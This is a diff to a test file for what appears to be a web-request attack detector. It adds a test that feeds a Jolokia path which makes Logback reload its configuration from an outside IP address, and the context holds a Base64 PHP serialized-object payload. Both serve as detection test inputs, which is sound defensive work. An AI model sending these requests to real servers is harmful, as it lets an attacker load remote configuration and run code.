@@ -646,6 +646,13 @@ describe("the forty-third and forty-fourth pairs' classes", () => {
       expect(host(fine).filter((m) => m.startsWith("920283"))).toEqual([]);
   });
 
+  it("reads a path as Jolokia unescapes it (`!/` for `/`)", () => {
+    const jolokia =
+      "/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/45.61.137.12:8000!/logback.xml";
+    expect(path(jolokia).some((m) => m.endsWith("@path.unescaped"))).toBe(true);
+    expect(path("/jolokia/read/java.lang:type=Memory/HeapMemoryUsage")).toEqual([]);
+  });
+
   it("reads Base64 marked `base64:` as Base64", () => {
     const serialized = btoa('O:20:"WpOrg\\Requests\\Hooks":1:{s:5:"hooks";a:0:{}}');
     expect(query(["meta", `base64:${serialized}`]).some((m) => m.startsWith("933170@query:meta.b64"))).toBe(true);
